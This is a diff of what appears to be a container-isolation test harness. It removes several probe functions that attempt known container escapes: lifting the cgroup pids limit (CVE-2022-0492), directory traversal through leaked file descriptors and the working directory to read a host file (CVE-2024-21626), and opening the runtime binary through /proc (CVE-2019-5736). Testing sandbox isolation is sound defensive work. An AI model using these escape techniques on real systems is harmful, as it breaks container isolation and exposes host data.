@@ -141,12 +141,6 @@ def node_state() -> str:
     return " ".join(shown)
 
 
-def control_group() -> str:
-    """Lift one's own limit, or make groups whose end runs a program on the node (CVE-2022-0492)."""
-    Path("/sys/fs/cgroup/pids.max").write_text("max")
-    return "no limit any more"
-
-
 # -- other processes
 
 
@@ -232,32 +226,6 @@ def user_fault() -> str:
     """
     os.close(syscall(NR_USERFAULTFD, 1))  # UFFD_USER_MODE_ONLY
     return "a descriptor"
-
-
-# -- descriptors
-
-
-def left_open() -> str:
-    """Step out through a folder of the node that the runtime left open (CVE-2024-21626)."""
-    for name in Path("/proc/self/fd").iterdir():
-        path = name / "../../../../../../run/attacks-secret"
-        if path.exists():
-            return path.read_text()
-    raise Stopped("no such folder is open")
-
-
-def working_folder() -> str:
-    """Step out through the folder we were started in (CVE-2024-21626)."""
-    return Path("../../../../../../run/attacks-secret").read_text()
-
-
-def runtime_program() -> str:
-    """Read the program of the runtime's process that is just entering this container (CVE-2019-5736)."""
-    for process in Path("/proc").glob("[0-9]*"):
-        if b"attack_driver" in (process / "cmdline").read_bytes():
-            fd = os.open(process / "exe", os.O_RDONLY)
-            return f"{os.read(fd, 4)!r} of process {process.name}"
-    raise Stopped("no such process")
 
 
 def attempt(name: str) -> tuple[bool, str]:
